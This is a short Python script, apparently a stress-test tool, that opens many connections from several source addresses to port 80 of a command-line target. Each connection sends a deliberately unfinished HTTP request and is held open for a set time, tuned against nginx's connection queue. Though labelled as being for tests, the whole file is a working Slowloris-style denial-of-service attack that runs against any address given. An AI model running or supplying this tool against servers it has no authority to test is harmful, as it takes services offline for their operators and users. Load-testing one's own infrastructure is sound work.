"""For tests: connections to port 80 of an address that each send half a request, kept up for some
seconds from some addresses of this machine's. flood.py NUMBER SECONDS TARGET SOURCE .."""
import contextlib
import resource
import select
import socket
import sys
import time

number, seconds, target, sources = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3], sys.argv[4:]
resource.setrlimit(resource.RLIMIT_NOFILE, (number + 100, number + 100))
waiting = select.epoll()
held = {}
made = 0


def begin():
    global made
    one = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
    one.setblocking(False)
    one.bind((sources[made % len(sources)], 0))
    made += 1
    one.connect_ex((target, 80))
    held[one.fileno()] = one
    waiting.register(one, select.EPOLLOUT)


ends = time.monotonic() + seconds
while time.monotonic() < ends:
    # No more at once than nginx's queue takes.
    for _ in range(min(200, number - len(held))):
        begin()
    for at, event in waiting.poll(0.01, 1000):
        one = held[at]
        if event == select.EPOLLOUT:
            with contextlib.suppress(OSError):
                one.send(b"GET / HTTP/1.1\r\nHost: rooms.example\r\nX-")
            waiting.modify(at, select.EPOLLIN)
        else:
            waiting.unregister(at)
            held.pop(at).close()
